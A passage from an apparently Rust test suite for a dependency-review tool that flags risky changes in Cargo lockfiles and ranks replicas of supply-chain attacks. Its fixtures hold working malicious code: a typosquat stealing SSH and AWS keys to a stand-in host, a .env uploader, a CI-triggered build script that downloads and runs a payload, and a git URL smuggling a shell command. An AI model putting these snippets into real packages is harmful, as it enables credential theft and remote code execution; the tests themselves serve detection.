    let names: Vec<&str> = doc["packages"].as_array().unwrap().iter().map(|p| p["name"].as_str().unwrap()).collect();
    let mut sorted = names.clone();
    sorted.sort();
    assert_eq!(names, sorted, "v1 lists packages by name");
    assert!(doc["packages"][0].get("flags").is_none());
    w.review(&["--schema", "v1"]).expect(2);
}

#[test]
fn no_capabilities_still_says_what_is_built() {
    let w = incidents();
    let doc = w.review(&["--format", "json", "--no-capabilities"]).json();
    assert_eq!(doc["coverage"]["enabled"], false);
    assert_eq!(pkg(&doc, "wincon")["built"], false);
    assert_eq!(pkg(&doc, "logger")["capabilities"]["status"], "off");
    assert!(doc["programs"].as_array().unwrap().is_empty());
    // The tree-based flags remain.
    assert!(flag_codes(pkg(&doc, "fetcher")).contains(&"build-script".to_string()));
}

// ---------------------------------------------------------------------------------------------
// A git dependency, served from a local bare repository.

struct GitDep {
    w: World,
    bare: PathBuf,
    old: String,
    new: String,
}

fn git_dependency() -> GitDep {
    let w = World::new();
    let up = tempfile::tempdir().unwrap().keep();
    let home = w.home.path().to_path_buf();
    let g = |args: &[&str]| git_in(&up, &home, args);
    g(&["init", "-q", "-b", "main"]);
    // The dependency lives in a workspace of its own, as many git dependencies do.
    std::fs::create_dir_all(up.join("gitdep/src")).unwrap();
    std::fs::write(up.join("Cargo.toml"), "[workspace]\nmembers = [\"gitdep\", \"other\"]\n[workspace.package]\nversion = \"0.4.0\"\nedition = \"2021\"\n").unwrap();
    std::fs::write(up.join("gitdep/Cargo.toml"), "[package]\nname = \"gitdep\"\nversion.workspace = true\nedition.workspace = true\n").unwrap();
    std::fs::write(up.join("gitdep/src/lib.rs"), "pub fn version() -> &'static str {\n    \"0.4\"\n}\n").unwrap();
    std::fs::create_dir_all(up.join("other/src")).unwrap();
    std::fs::write(up.join("other/Cargo.toml"), "[package]\nname = \"other\"\nversion = \"9.9.9\"\n").unwrap();
    std::fs::write(up.join("other/src/lib.rs"), "").unwrap();
    g(&["add", "-A"]);
    g(&["commit", "-q", "-m", "one"]);
    let old = g(&["rev-parse", "HEAD"]);
    std::fs::write(
        up.join("gitdep/src/lib.rs"),
        "pub fn version() -> &'static str {\n    let _ = std::process::Command::new(\"curl\").arg(\"https://gitdep.example/v\").status();\n    \"0.4\"\n}\n",
    )
    .unwrap();
    g(&["commit", "-q", "-am", "two"]);
    let new = g(&["rev-parse", "HEAD"]);
    let bare = tempfile::tempdir().unwrap().keep().join("gitdep.git");
    git_in(&up, &home, &["clone", "-q", "--bare", up.to_str().unwrap(), bare.to_str().unwrap()]);

    let url = format!("file://{}", bare.display());
    w.write("Cargo.toml", "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n");
    w.write("app/Cargo.toml", &manifest("app", "0.1.0", &format!("[dependencies]\ngitdep = {{ git = \"{url}\" }}\n")));
    w.write("app/src/main.rs", "fn main() {\n    println!(\"{}\", gitdep::version());\n}\n");
    let lock = |commit: &str| {
        format!(
            "version = 3\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\n \"gitdep\",\n]\n\n[[package]]\nname = \"gitdep\"\nversion = \"0.4.0\"\nsource = \"git+{url}#{commit}\"\n"
        )
    };
    w.write("Cargo.lock", &lock(&old));
    w.commit("base");
    // The member's own version moves too, as it often does with such a bump.
    w.write("app/Cargo.toml", &manifest("app", "0.2.0", &format!("[dependencies]\ngitdep = {{ git = \"{url}\" }}\n")));
    w.write("Cargo.lock", &lock(&new).replace("name = \"app\"\nversion = \"0.1.0\"", "name = \"app\"\nversion = \"0.2.0\""));
    w.commit("bump gitdep");
    GitDep { w, bare, old, new }
}

#[test]
fn a_git_dependency_is_read_at_its_locked_commit_and_reviewed() {
    let g = git_dependency();
    let doc = g.w.review(&["--format", "json"]).json();
    let p = pkg(&doc, "gitdep");
    assert_eq!(p["change"], "source-changed");
    assert_eq!(p["old"]["verified_by"], "commit");
    assert_eq!(p["old"]["commit"], g.old.as_str());
    assert_eq!(p["new"]["commit"], g.new.as_str());
    assert_eq!(p["new"]["path_in_repository"], "gitdep");
    assert_eq!(p["files"]["modified"], 1);
    assert_eq!(p["audit_lines"], 1);
    assert_eq!(added(p), ["process.spawn"]);
    assert_eq!(p["capabilities"]["added"][0]["findings"][0]["hunk"]["changed"], true);
    assert_eq!(doc["verified"]["commits"], 2);
    assert_eq!(doc["verified"]["commits_total"], 2);
    // The member's version bump is the repository's own code: nothing to verify, no integrity
    // concern, and its capabilities come from the work tree at both revisions. Its call into
    // the git dependency now reaches process.spawn through that dependency's API.
    let app = pkg(&doc, "app");
    assert_eq!(app["change"], "upgraded");
    assert_eq!(app["tier"], "capabilities", "{app:#}");
    assert_eq!(added(app), ["process.spawn"]);
    assert_eq!(doc["verified"]["unverifiable"], serde_json::json!([]));
    assert_eq!(doc["coverage"]["analysed"], 2);
    g.w.review(&["--fail-on", "unverifiable,unknown"]).expect(0);
    let human = g.w.review(&[]).expect(0);
    assert!(human.contains("2 of 2 git packages verified by commit id"), "{human}");
    assert!(human.contains("+ gains process.spawn"), "{human}");
    // The repository was fetched into velaris' cache as a bare repository; nothing checked out.
    let db = g.w.cache.path().join("git/db");
    let repos: Vec<_> = std::fs::read_dir(&db).unwrap().flatten().collect();
    assert_eq!(repos.len(), 1);
    assert!(repos[0].path().join("HEAD").is_file() && !repos[0].path().join("gitdep").exists());
    assert!(g.bare.is_dir());
}

#[test]
fn offline_without_the_repository_a_git_dependency_is_unknown_and_printed_once() {
    let g = git_dependency();
    let r = g.w.review(&["--offline", "--format", "json"]);
    let doc = r.json();
    let p = pkg(&doc, "gitdep");
    assert_eq!(p["new"]["verified"], false);
    assert!(p["new"]["unverifiable"].as_str().unwrap().contains("offline"), "{p:#}");
    assert_eq!(p["capabilities"]["status"], "unknown");
    assert_eq!(doc["coverage"]["unknown"].as_array().unwrap().len(), 1);
    assert!(!g.w.cache.path().join("git/db").exists(), "no network fetch of a git source offline");
    let human = g.w.review(&["--offline"]).expect(0);
    let mentions = human.lines().filter(|l| l.contains("unverifiable gitdep 0.4.0")).count();
    assert_eq!(mentions, 2, "each side once in the verified section: {human}");
    let r = g.w.review(&["--offline", "--fail-on", "unverifiable,unknown"]);
    r.expect(1);
    assert!(r.stderr().contains("--fail-on unverifiable") && r.stderr().contains("--fail-on unknown"), "{}", r.stderr());
    // Once fetched, offline works from the cache.
    g.w.review(&[]).expect(0);
    let doc = g.w.review(&["--offline", "--format", "json"]).json();
    assert_eq!(pkg(&doc, "gitdep")["new"]["verified_by"], "commit");
}

#[test]
fn a_git_url_that_could_run_a_command_is_refused() {
    let w = World::new();
    w.write("Cargo.toml", "[workspace]\nmembers = [\"app\"]\n");
    w.write("app/Cargo.toml", &manifest("app", "0.1.0", "[dependencies]\nx = { git = \"https://example.com/x\" }\n"));
    w.write("app/src/main.rs", "fn main() {}\n");
    let marker = w.repo.path().join("PWNED");
    let lock = |src: &str| format!("version = 3\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"x\"]\n\n[[package]]\nname = \"x\"\nversion = \"1.0.0\"\nsource = \"git+{src}\"\n");
    w.write("Cargo.lock", &lock("https://example.com/x#0000000000000000000000000000000000000000"));
    w.commit("base");
    let evil = format!("ext::sh -c touch% {}#1111111111111111111111111111111111111111", marker.display());
    w.write("Cargo.lock", &lock(&evil));
    w.commit("evil");
    let doc = w.review(&["--format", "json", "--offline"]).json();
    assert!(pkg(&doc, "x")["new"]["unverifiable"].as_str().unwrap().contains("refused") || pkg(&doc, "x")["new"]["unverifiable"].as_str().unwrap().contains("offline"));
    let doc = w.review(&["--format", "json"]).json();
    let why = pkg(&doc, "x")["new"]["unverifiable"].as_str().unwrap().to_string();
    assert!(why.contains("refused"), "{why}");
    assert!(!marker.exists(), "git ran a command from the lockfile");
}

// ---------------------------------------------------------------------------------------------
// One fixture pair per remaining flag, a removed package and other bytes under one version.

fn vcs_dirty(sha: &str) -> String {
    format!("{{\n  \"git\": {{\n    \"sha1\": \"{sha}\",\n    \"dirty\": true\n  }},\n  \"path_in_vcs\": \"\"\n}}\n")
}

#[test]
fn every_flag_has_its_fixture() {
    let w = World::new();
    let blob = "H4sIAAAAAAAAA+3OMQ6AIBAEwH3FdY5J0CgK/v+3FC+Ry8nkF4sHoa6WtFg7TX5/3mKHmEZ6QAg2bx4tdq0+".repeat(4);
    let base = vec![
        krate("derive-helper", "1.0.0", "", &[("src/lib.rs", "pub fn helper() {}\n")], &[]),
        krate("icons", "0.2.0", "", &[("src/lib.rs", "pub const N: u8 = 1;\n")], &[]),
        krate("tracer", "0.9.0", "repository = \"https://github.com/tracer-rs/tracer\"\n", &[("src/lib.rs", "pub fn t() {}\n"), (".cargo_vcs_info.json", &vcs("1111111111111111111111111111111111111111"))], &[]),
        krate("fmtlib", "2.1.0", "", &[("src/lib.rs", "pub fn f() {}\n"), (".cargo_vcs_info.json", &vcs("2222222222222222222222222222222222222222"))], &[]),
        krate("codec", "1.0.0", "", &[("src/lib.rs", "pub fn decode() {}\n")], &[]),
        krate("ghost", "0.1.0", "", &[("src/lib.rs", "pub fn g() {}\n")], &[]),
        krate("oldenv", "0.3.0", "", &[("src/lib.rs", "pub fn home() -> Option<String> {\n    std::env::var(\"HOME\").ok()\n}\n")], &[]),
        krate("dd", "1.0.0", "", &[("src/lib.rs", "pub fn d() {}\n"), (".cargo_vcs_info.json", &vcs("3333333333333333333333333333333333333333"))], &[]),
    ];
    let head = vec![
        krate("derive-helper", "1.1.0", "\n[lib]\nproc-macro = true\n", &[("src/lib.rs", "pub fn helper() {}\n")], &[]),
        krate("icons", "0.2.1", "", &[("src/lib.rs", "pub const N: u8 = 1;\n"), ("assets/logo.png", "\u{89}PNG\r\n\u{1a}\n\0\0\0\rIHDR\0\0\0\u{10}")], &[]),
        krate("tracer", "0.9.1", "repository = \"https://github.com/tracer-rs-mirror/tracer\"\n", &[("src/lib.rs", "pub fn t() {}\n"), (".cargo_vcs_info.json", &vcs_dirty("4444444444444444444444444444444444444444"))], &[]),
        krate("fmtlib", "2.1.1", "", &[("src/lib.rs", "pub fn f() {}\n")], &[]),
        krate("codec", "1.0.1", "", &[("src/lib.rs", &format!("pub fn decode() {{}}\n\nstatic TABLE: &str = \"{blob}\";\n"))], &[]),
        krate("ghost", "0.1.1", "", &[("src/lib.rs", "pub fn g() {}\n")], &[]),
        krate("dd", "1.0.0", "", &[("src/lib.rs", "pub fn d() {}\n"), (".cargo_vcs_info.json", &vcs("5555555555555555555555555555555555555555"))], &[]),
    ];
    // One registry serves one set of bytes per version: both copies of dd go to velaris' cache.
    w.serve(&base.iter().filter(|k| k.name != "dd").cloned().collect::<Vec<_>>());
    w.serve(&head.iter().filter(|k| k.name != "dd").cloned().collect::<Vec<_>>());
    for k in base.iter().chain(&head).filter(|k| k.name == "dd") {
        let bytes = k.bytes();
        let hex = sha256_hex(&bytes);
        let dir = w.cache.path().join("crates/sha256").join(&hex[..2]);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(format!("{hex}.crate")), &bytes).unwrap();
    }
    w.reg.unlist("ghost", "0.1.1");
    let deps = |names: &[&str]| names.iter().map(|n| format!("{n} = \"*\"\n")).collect::<String>();
    let base_names = ["codec", "dd", "derive-helper", "fmtlib", "ghost", "icons", "oldenv", "tracer"];
    let head_names = ["codec", "dd", "derive-helper", "fmtlib", "ghost", "icons", "tracer"];
    w.write("Cargo.toml", "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n");
    w.write("app/src/main.rs", "fn main() {}\n");
    w.write("app/Cargo.toml", &manifest("app", "0.1.0", &format!("[dependencies]\n{}", deps(&base_names))));
    w.write("Cargo.lock", &lockfile(&base_names, &base, ""));
    w.commit("base");
    w.write("app/Cargo.toml", &manifest("app", "0.1.0", &format!("[dependencies]\n{}", deps(&head_names))));
    w.write("Cargo.lock", &lockfile(&head_names, &head, ""));
    w.commit("head");

    let doc = w.review(&["--format", "json"]).json();
    let codes = |n: &str| flag_codes(pkg(&doc, n));
    assert_eq!(codes("derive-helper"), ["proc-macro"]);
    assert!(added(pkg(&doc, "derive-helper")).contains(&"build.proc-macro (build)".to_string()), "{:?}", added(pkg(&doc, "derive-helper")));
    assert_eq!(codes("icons"), ["binary-files"]);
    let logo = "\u{89}PNG\r\n\u{1a}\n\0\0\0\rIHDR\0\0\0\u{10}";
    assert_eq!(pkg(&doc, "icons")["flags"][0]["evidence"][0], format!("assets/logo.png ({} bytes)", logo.len()));
    assert_eq!(codes("tracer"), ["repository-changed", "vcs-dirty"]);
    assert_eq!(codes("fmtlib"), ["vcs-info-missing"]);
    assert_eq!(codes("codec"), ["suspicious-lines"]);
    assert!(pkg(&doc, "codec")["flags"][0]["evidence"][0].as_str().unwrap().starts_with("src/lib.rs:3: "));
    assert_eq!(added(pkg(&doc, "codec")), Vec::<String>::new(), "data is not a capability");
    assert_eq!(codes("ghost"), ["not-in-index"]);
    assert_eq!(pkg(&doc, "ghost")["new"]["yanked"], Value::Null);
    // A removed package shows what it took away.
    let gone = pkg(&doc, "oldenv");
    assert_eq!(gone["change"], "removed");
    assert_eq!(gone["built"], true, "built at base");
    assert_eq!(gone["capabilities"]["removed"][0]["capability"], "env.read");
    // Other bytes under one version: an integrity matter, first, with the other commit flagged.
    let dd = pkg(&doc, "dd");
    assert_eq!(dd["change"], "checksum-changed");
    assert_eq!(dd["tier"], "integrity");
    assert_eq!(names(&doc)[0], "dd");
    assert_eq!(codes("dd"), ["vcs-commit-changed"]);
    let human = w.review(&[]).expect(0);
    assert!(human.lines().nth(1).unwrap().contains("1 changed checksum"), "{human}");
    assert!(human.contains("- took away env.read"), "{human}");
    assert!(human.contains("published from 333333333333 -> 555555555555"), "{human}");
    w.review(&["--fail-on", "proc-macro"]).expect(1);
}

/// The surface engine reads a git dependency at its locked commit too: `velaris surface`
/// attributes what it does instead of calling it unanalyzed.
#[test]
fn surface_analyzes_a_git_dependency_at_its_commit() {
    let g = git_dependency();
    let out = g.w.run(&["surface", "--format", "json", "--target", LINUX]);
    let doc: Value = surface_doc::inline(serde_json::from_str(&out.expect(0)).unwrap());
    let app = doc["programs"].as_array().unwrap().iter().find(|p| p["name"] == "app").unwrap();
    let dep = app["crates"].as_array().unwrap().iter().find(|c| c["name"] == "gitdep").unwrap_or_else(|| panic!("{app:#}"));
    let caps: Vec<&str> = dep["capabilities"].as_array().unwrap().iter().map(|c| c.as_str().unwrap()).collect();
    assert_eq!(caps, ["process.spawn"], "{dep:#}");
    assert_eq!(dep["findings"][0]["file"], "src/lib.rs");
    // Offline, from the cache it filled.
    let again = g.w.run(&["surface", "--format", "json", "--target", LINUX, "--offline"]);
    let again: Value = surface_doc::inline(serde_json::from_str(&again.expect(0)).unwrap());
    assert_eq!(again, doc);
}

/// `deps-diff REV` compares a revision with the work tree: the head side's workspace is the
/// work tree as it is.
#[test]
fn a_revision_against_the_work_tree() {
    let w = incidents();
    // Take the old lockfile and manifest back into the work tree: a downgrade, uncommitted.
    w.git(&["checkout", "HEAD~1", "--", "Cargo.lock", "app/Cargo.toml"]);
    let doc = w.run(&["deps-diff", "HEAD", "--target", LINUX, "--format", "json"]).json();
    assert_eq!(doc["head"], "work tree");
    let logger = pkg(&doc, "logger");
    assert_eq!(logger["change"], "downgraded");
    let lost: Vec<&str> = logger["capabilities"]["removed"].as_array().unwrap().iter().map(|d| d["capability"].as_str().unwrap()).collect();
    assert_eq!(lost, ["net.connect", "fs.read", "env.read"]);
    let wincon = pkg(&doc, "wincon");
    assert_eq!(wincon["change"], "removed");
    assert_eq!(wincon["built"], false, "not built at base either");
}

/// Offline with a package of the graph in no cache: the review still comes, with the change's
/// capabilities unknown (never "no change") and the reason on one line.
#[test]
fn offline_without_the_graph_capabilities_are_unknown() {
    let w = World::new();
    let steady = krate("steady", "1.0.0", "", &[("src/lib.rs", "pub fn s() {}\n")], &[]);
    let old = krate("alpha", "1.0.0", "\n[dependencies]\nsteady = \"1\"\n", &[("src/lib.rs", "pub fn a() {}\n")], &["steady"]);
    let new = krate("alpha", "1.1.0", "\n[dependencies]\nsteady = \"1\"\n", &[("src/lib.rs", "pub fn a() {\n    let _ = std::net::TcpStream::connect(\"example.com:80\");\n}\n")], &["steady"]);
    w.serve(&[steady.clone(), old.clone(), new.clone()]);
    w.write("Cargo.toml", "[workspace]\nmembers = [\"app\"]\n");
    w.write("app/Cargo.toml", &manifest("app", "0.1.0", "[dependencies]\nalpha = \"1\"\n"));
    w.write("app/src/main.rs", "fn main() {}\n");
    w.write("Cargo.lock", &lockfile(&["alpha"], &[old.clone(), steady.clone()], ""));
    w.commit("base");
    w.write("Cargo.lock", &lockfile(&["alpha"], &[new.clone(), steady.clone()], ""));
    w.commit("head");
    // Two lockfiles without capabilities: only the changed packages reach the cache.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("old.lock"), w.git(&["show", "HEAD~1:Cargo.lock"])).unwrap();
    std::fs::write(dir.path().join("new.lock"), w.git(&["show", "HEAD:Cargo.lock"])).unwrap();
    Run(w.cmd().current_dir(dir.path()).args(["deps-diff", "--old", "old.lock", "--new", "new.lock", "--no-capabilities"]).output().unwrap()).expect(0);
    let doc = w.review(&["--offline", "--format", "json"]).json();
    let alpha = pkg(&doc, "alpha");
    assert_eq!(alpha["capabilities"]["status"], "unknown", "{alpha:#}");
    assert!(alpha["capabilities"]["reason"].as_str().unwrap().contains("offline"), "{alpha:#}");
    assert_eq!(doc["coverage"]["analysed"], 0);
    assert_eq!(doc["graph"]["known"], false);
    let human = w.review(&["--offline"]).expect(0);
    assert!(human.contains("capabilities: 0 of 1 changed package analysed"), "{human}");
    assert!(human.lines().all(|l| l.len() < 400), "reasons stay on one short line: {human}");
    w.review(&["--offline", "--fail-on", "unknown"]).expect(1);
    // Online, the rest of the graph is fetched and the gain is seen.
    let doc = w.review(&["--format", "json"]).json();
    assert_eq!(added(pkg(&doc, "alpha")), ["net.connect"]);
}

// ---------------------------------------------------------------------------------------------
// Replicas of real supply-chain attacks, each beside a benign change of the same shape that must
// not rank above it. The review is read as a reviewer would: the rank of the malicious package,
// what the headline names, and the markdown's size.

/// One replica: the crates at base and head, the app's direct dependencies at each, the
/// malicious package and its benign twin.
struct Replica {
    base: Vec<Krate>,
    head: Vec<Krate>,
    direct_base: Vec<&'static str>,
    direct_head: Vec<&'static str>,
    malicious: &'static str,
    benign: &'static str,
}

fn app_manifest(direct: &[&str]) -> String {
    let deps: String = direct.iter().map(|d| format!("{d} = \"*\"\n")).collect();
    manifest("app", "0.1.0", &format!("[dependencies]\n{deps}"))
}

/// The replica's world: base and head commits.
fn replica_world(r: &Replica) -> World {
    let w = World::new();
    w.serve(&r.base);
    w.serve(&r.head.iter().filter(|k| !r.base.iter().any(|b| b.name == k.name && b.version == k.version)).cloned().collect::<Vec<_>>());
    w.write("Cargo.toml", "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n");
    w.write("app/src/main.rs", "fn main() {}\n");
    w.write("app/Cargo.toml", &app_manifest(&r.direct_base));
    w.write("Cargo.lock", &lockfile(&r.direct_base, &r.base, ""));
    w.commit("base");
    w.write("app/Cargo.toml", &app_manifest(&r.direct_head));
    w.write("Cargo.lock", &lockfile(&r.direct_head, &r.head, ""));
    w.commit("head");
    w
}

/// The rank (1-based) of `name` in the review order.
fn rank(doc: &Value, name: &str) -> usize {
    names(doc).iter().position(|n| n == name).unwrap_or_else(|| panic!("{name} not in {:?}", names(doc))) + 1
}

fn score(doc: &Value, name: &str) -> u64 {
    pkg(doc, name)["risk"]["score"].as_u64().unwrap()
}

/// Review a replica: the malicious package heads the review (or heads it right under the
/// package that brought it), scores above its twin, and the headline names it; the markdown
/// holds its flags within the default budget. Prints the figures.
fn review_replica(label: &str, r: &Replica, extra: &[&str]) -> (Value, String) {
    let w = replica_world(r);
    let mut args = vec!["--format", "json"];
    args.extend_from_slice(extra);
    let doc = w.review(&args).json();
    let mut margs = vec!["--format", "markdown"];
    margs.extend_from_slice(extra);
    let md = w.review(&margs).expect(0);
    let m = pkg(&doc, r.malicious);
    let group_rank = match m["risk"]["group"].as_str() {
        Some(g) => rank(&doc, g),
        None => rank(&doc, r.malicious),
    };
    eprintln!(
        "replica {label}: {} ranks {} of {} (group rank {group_rank}), score {} vs benign {} {}; markdown {} characters",
        r.malicious,
        rank(&doc, r.malicious),
        names(&doc).len(),
        score(&doc, r.malicious),
        r.benign,
        score(&doc, r.benign),
        md.chars().count()
    );
    assert_eq!(group_rank, 1, "{label}: {:?}\n{md}", names(&doc));
    assert!(score(&doc, r.malicious) > score(&doc, r.benign), "{label}: {:#}", doc["packages"]);
    assert!(rank(&doc, r.malicious) < rank(&doc, r.benign), "{label}: {:?}", names(&doc));
    let top = doc["top_risk"].as_str().unwrap_or_default();
    assert!(top.starts_with(&format!("Top risk: {} ", r.malicious)), "{label}: {top}");
    let top_line = md.lines().find(|l| l.starts_with("🔺 Top risk")).unwrap_or_default();
    assert!(top_line.replace('\\', "").starts_with(&format!("🔺 Top risk: {} ", r.malicious)), "{label}:\n{md}");
    assert!(md.chars().count() <= 20_000, "{label}: {} characters", md.chars().count());
    (doc, md)
}

fn reasons(doc: &Value, name: &str) -> Vec<String> {
    pkg(doc, name)["risk"]["reasons"].as_array().unwrap().iter().map(|r| r["code"].as_str().unwrap().to_string()).collect()
}

const COLORLOG_OLD: &str = "pub fn enabled() -> bool {\n    true\n}\n";
const COLORLOG_NEW: &str = "pub fn enabled() -> bool {\n    std::env::var(\"NO_COLOR\").is_err()\n}\n";

/// A typosquatted logger (`faster_log`, after `fast_log`) that a patch release of `logkit`
/// starts depending on: it reads SSH and cloud keys and posts them over HTTP. Twin: a colour
/// crate that starts reading `NO_COLOR`.
fn replica_logger() -> Replica {
    let logkit = |v: &'static str, dep: bool| {
        let (extra, deps): (&str, &[&'static str]) = if dep { ("[dependencies]\nfaster_log = \"0.1\"\n", &["faster_log"]) } else { ("", &[]) };
        krate("logkit", v, extra, &[("src/lib.rs", "pub fn info(m: &str) {\n    eprintln!(\"{m}\");\n}\n")], deps)
    };
    let squat = krate(
        "faster_log",
        "0.1.0",
        "",
        &[("src/lib.rs", "use std::io::Write;\n\npub fn init() {\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    let mut body = Vec::new();\n    for f in [\".ssh/id_rsa\", \".aws/credentials\"] {\n        if let Ok(b) = std::fs::read(format!(\"{home}/{f}\")) {\n            body.extend(b);\n        }\n    }\n    if let Ok(mut s) = std::net::TcpStream::connect(\"logs-collector.example:80\") {\n        let _ = write!(s, \"POST /v1/ingest HTTP/1.1\\r\\nContent-Length: {}\\r\\n\\r\\n\", body.len());\n        let _ = s.write_all(&body);\n    }\n}\n")],
        &[],
    );
    let colorlog = |v: &'static str, src: &str| krate("colorlog", v, "", &[("src/lib.rs", src)], &[]);
    Replica {
        base: vec![logkit("1.0.0", false), colorlog("2.1.0", COLORLOG_OLD)],
        head: vec![logkit("1.0.1", true), squat, colorlog("2.1.1", COLORLOG_NEW)],
        direct_base: vec!["colorlog", "logkit"],
        direct_head: vec!["colorlog", "logkit"],
        malicious: "faster_log",
        benign: "colorlog",
    }
}

#[test]
fn replica_a_typosquatted_logger_exfiltrating_files() {
    let r = replica_logger();
    let (doc, md) = review_replica("typosquatted logger", &r, &[]);
    let codes = reasons(&doc, "faster_log");
    for c in ["name-squat", "read-and-send", "secret-access"] {
        assert!(codes.contains(&c.to_string()), "{c}: {codes:?}");
    }
    assert_eq!(pkg(&doc, "faster_log")["squat"]["resembles"], "fast_log");
    assert_eq!(pkg(&doc, "faster_log")["brought_by"], serde_json::json!(["logkit"]));
    assert_eq!(pkg(&doc, "logkit")["brings"], serde_json::json!(["faster_log"]));
    // The package that brought it comes first, its new dependency right under it.
    assert_eq!(&names(&doc)[..2], ["logkit", "faster_log"]);
    let row = md.lines().find(|l| l.starts_with("| ") && l.contains("faster\\_log")).unwrap_or_else(|| panic!("{md}"));
    assert!(row.contains("↳ brought by logkit"), "{row}");
    assert!(md.contains("`name-squat`"), "{md}");
    // A reviewer reads no diff of a new crate: its largest files and a link instead.
    let md_diff = replica_world(&r).review(&["--format", "markdown", "--diff"]).expect(0);
    assert!(!md_diff.contains("+pub fn init()"), "{md_diff}");
    assert!(md_diff.contains("https://docs.rs/crate/faster_log/0.1.0/source/"), "{md_diff}");
}

/// A time client whose minor release starts reading `.env` and uploading it (and that an
/// advisory names). Twin: a formatter that starts reading `TZ`.
fn replica_time_client() -> Replica {
    const OLD: &str = "use std::time::{SystemTime, UNIX_EPOCH};\n\npub fn now() -> u64 {\n    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)\n}\n";
    const NEW: &str = "use std::io::Write;\nuse std::time::{SystemTime, UNIX_EPOCH};\n\npub fn now() -> u64 {\n    let t = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);\n    if t > 1_767_225_600 {\n        if let Ok(env) = std::fs::read_to_string(\".env\") {\n            if let Ok(mut s) = std::net::TcpStream::connect(\"time-sync.example:123\") {\n                let _ = s.write_all(env.as_bytes());\n            }\n        }\n    }\n    t\n}\n";
    let fmt_old = "pub fn zone() -> &'static str {\n    \"UTC\"\n}\n";
    let fmt_new = "pub fn zone() -> String {\n    std::env::var(\"TZ\").unwrap_or_else(|_| \"UTC\".into())\n}\n";
    Replica {
        base: vec![krate("timeclient", "2.3.0", "", &[("src/lib.rs", OLD)], &[]), krate("clockfmt", "1.0.0", "", &[("src/lib.rs", fmt_old)], &[])],
        head: vec![krate("timeclient", "2.4.0", "", &[("src/lib.rs", NEW)], &[]), krate("clockfmt", "1.0.1", "", &[("src/lib.rs", fmt_new)], &[])],
        direct_base: vec!["clockfmt", "timeclient"],
        direct_head: vec!["clockfmt", "timeclient"],
        malicious: "timeclient",
        benign: "clockfmt",
    }
}

#[test]
fn replica_b_a_time_client_that_starts_uploading_dot_env() {
    let db = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/advisory-db");
    let (doc, md) = review_replica("time client", &replica_time_client(), &["--advisory-db", db]);
    let codes = reasons(&doc, "timeclient");
    for c in ["secret-access", "read-and-send", "trigger-condition", "advisory"] {
        assert!(codes.contains(&c.to_string()), "{c}: {codes:?}");
    }
    assert_eq!(pkg(&doc, "timeclient")["advisories"]["affecting"][0]["id"], "RUSTSEC-2099-0002");
    assert_eq!(pkg(&doc, "timeclient")["advisories"]["introduced"], serde_json::json!(["RUSTSEC-2099-0002"]));
    assert!(md.contains("RUSTSEC-2099-0002"), "{md}");
    // Without the database, no advisory and no word of one beyond how to ask.
    let w = replica_world(&replica_time_client());
    let plain = w.review(&["--format", "json"]).json();
    assert_eq!(plain["advisory_db"], Value::Null);
    assert!(pkg(&plain, "timeclient")["advisories"]["affecting"].as_array().unwrap().is_empty());
    w.review(&["--advisory-db", db, "--fail-on", "advisory"]).expect(1);
    w.review(&["--fail-on", "advisory"]).expect(0);
}

/// A typosquat (`rustdecimal`, after `rust_decimal`) whose build script checks `GITLAB_CI`,
/// then downloads and runs a payload. Twin: a new crate whose build script writes its
/// generated tables under `OUT_DIR`.
fn replica_gitlab_ci() -> Replica {
    const BUILD: &str = "use std::process::Command;\n\nfn main() {\n    if std::env::var(\"GITLAB_CI\").is_ok() {\n        let _ = Command::new(\"curl\").args([\"-sSfL\", \"https://update.example/payload\", \"-o\", \"/tmp/.cache-upd\"]).status();\n        let _ = Command::new(\"sh\").arg(\"/tmp/.cache-upd\").status();\n    }\n}\n";
    const TWIN_BUILD: &str = "fn main() {\n    let out_dir = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out_dir}/tables.rs\"), \"pub const N: u32 = 10;\\n\").unwrap();\n}\n";
    let lib = "pub struct Decimal(pub i128);\n";
    Replica {
        base: vec![],
        head: vec![
            krate("rustdecimal", "1.23.1", "build = \"build.rs\"\n", &[("src/lib.rs", lib), ("build.rs", BUILD)], &[]),
            krate("decimal-tables", "0.3.0", "build = \"build.rs\"\n", &[("src/lib.rs", "include!(concat!(env!(\"OUT_DIR\"), \"/tables.rs\"));\n"), ("build.rs", TWIN_BUILD)], &[]),
        ],
        direct_base: vec![],
        direct_head: vec!["decimal-tables", "rustdecimal"],
        malicious: "rustdecimal",
        benign: "decimal-tables",
    }
}

#[test]
fn replica_c_a_typosquat_whose_build_script_waits_for_ci() {
    let (doc, _) = review_replica("GITLAB_CI build script", &replica_gitlab_ci(), &[]);
    let codes = reasons(&doc, "rustdecimal");
    for c in ["name-squat", "trigger-condition", "build-spawn"] {
        assert!(codes.contains(&c.to_string()), "{c}: {codes:?}");
    }
    assert_eq!(pkg(&doc, "rustdecimal")["squat"]["how"], "separator");
    // The twin's build script writes under OUT_DIR only: that is what build scripts are for.
    let twin = pkg(&doc, "decimal-tables");
    let text: Vec<&str> = twin["risk"]["reasons"].as_array().unwrap().iter().map(|r| r["text"].as_str().unwrap()).collect();
    assert!(text.iter().any(|t| t.contains("under OUT_DIR")), "{text:?}");
    replica_world(&replica_gitlab_ci()).review(&["--fail-on", "name-squat"]).expect(1);
}

/// A patch release that adds a new dependency (`tokio-utill`, after `tokio-util`) carrying an
/// encrypted blob it decrypts, writes out and runs. Twin: a patch release that adds a
/// dependency with a lookup table.
fn replica_blob() -> Replica {
    let blob = "U2FsdGVkX1+vupppZksvRf5pq5g5XjFRlipRkwB0K1Y96Qsv2Lm+31cmzaAILwytX/z66ZVWEQM/ccf1g+9m5Ubu1+sit+A9cenD".repeat(3);
